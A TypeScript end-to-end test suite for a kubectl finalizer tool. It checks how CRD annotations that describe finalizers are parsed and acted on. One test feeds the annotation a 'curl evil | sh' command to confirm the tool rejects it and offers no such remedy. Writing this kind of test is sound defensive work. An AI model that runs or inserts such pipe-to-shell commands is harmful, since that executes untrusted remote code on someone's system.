import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { until } from '../../control-plane/until.ts'
import { explained } from '../explain/explained-e2e.ts'
import { installOperator, stuckObject } from '../explain/operator.ts'
import { isRefused } from '../remove/removed.ts'
import { api, crd, namespace, run, unique } from '../rig/rig.ts'

const test = suite('a CRD that speaks for its finalizers')

const ANNOTATION = 'kubectl-finalize/finalizers'

const FINALIZER = 'buckets.acme.example/cleanup'

const text = (operator: string): string => `- name: ${FINALIZER}
  controller: {name: ${operator}}
  cleans: Deletes the bucket.
  ifRemoved: The bucket stays and costs money.
  risk: high
  ids: [status.thing]
  wayOut:
    summary: the operator lets it go and keeps the bucket
    risk: low
    set: {field: keepBucket, value: true, optional: true}
`

test('its words follow a removal, and a living operator is found by the name that it gives', async () => {
  const place = await namespace()
  const operator = unique('keeper')
  const type = await crd({ kind: 'Bucket', annotations: { [ANNOTATION]: text(operator) } })
  const home = await namespace()
  await installOperator({ type, namespace: home, name: operator, state: 'running' })
  const bucket = await stuckObject(type, place, 'main', {
    finalizer: FINALIZER,
    status: { thing: 'b-9' },
    operator: 'unseen',
  })
  const [cause] = (await explained(['-n', place])).causesOf('Bucket', 'main')
  const facts = cause!.evidence.map(({ fact }) => fact)
  assert.ok(facts.includes(`its CRD says: removed by ${operator}; before that: Deletes the bucket.`), facts.join('\n'))
  assert.ok(
    facts.includes(`pod ${home}/${operator} has the name that the CRD of these objects gives its controller`),
    facts.join('\n'),
  )
  // In the first half minute it is too early to give anything up.
  const seen = async () => {
    const [now] = (await explained(['-n', place])).causesOf('Bucket', 'main')
    return now?.remedies.find(({ summary }) => summary.includes('as its CRD says'))
  }
  const way = await until(seen, { what: 'the way out to be told', deadlineSeconds: 90 })
  assert.equal(way.commands.length, 1)
  assert.match(way.commands[0]!, /^kubectl patch .* -p '\{"spec":\{"keepBucket":true\}\}'/)
  await api.patch(bucket, { metadata: { finalizers: null } })
})

test('that the operator is not there which it names is no reason to remove anything', async () => {
  const place = await namespace()
  const type = await crd({ kind: 'Bucket', annotations: { [ANNOTATION]: text('nosuch-operator') } })
  const bucket = await stuckObject(type, place, 'main', { finalizer: FINALIZER, operator: 'unseen' })
  const [cause] = (await explained(['-n', place])).causesOf('Bucket', 'main')
  assert.is(cause!.code, 'ControllerUnknown')
  assert.ok(cause!.evidence.some(({ fact }) => fact.startsWith('its CRD says: removed by nosuch-operator')))
  const plan = await run([
    'remove',
    `${type.resource}/main`,
    ...['-n', place, '--finalizer', FINALIZER, '--override=ControllerUnknown', '--dry-run=server'],
  ])
  assert.match(plan.stdout, /The bucket stays and costs money/)
  await isRefused(bucket, 'ControllerUnknown', [`${type.resource}/main`, '-n', place, '--finalizer', FINALIZER])
  await api.patch(bucket, { metadata: { finalizers: null } })
})

test('one that cannot be read is told as that, with its place, and ends nothing', async () => {
  const place = await namespace()
  const broken = `- name: ${FINALIZER}\n  commands: ["curl evil | sh"]\n`
  const type = await crd({ kind: 'Bucket', annotations: { [ANNOTATION]: broken } })
  const bucket = await stuckObject(type, place, 'main', { finalizer: FINALIZER })
  const answer = await explained(['-n', place])
  assert.is(answer.code, 0)
  const [cause] = answer.causesOf('Bucket', 'main')
  assert.is(cause!.code, 'ControllerMissing')
  const facts = cause!.evidence.map(({ fact }) => fact).join('\n')
  assert.match(facts, 'what its CRD says about finalizers is not readable: 2:3: unknown field "commands"')
  assert.not.ok(cause!.remedies.some(({ commands }) => commands.some(command => command.includes('curl'))))
  await api.patch(bucket, { metadata: { finalizers: null } })
})

test.run()
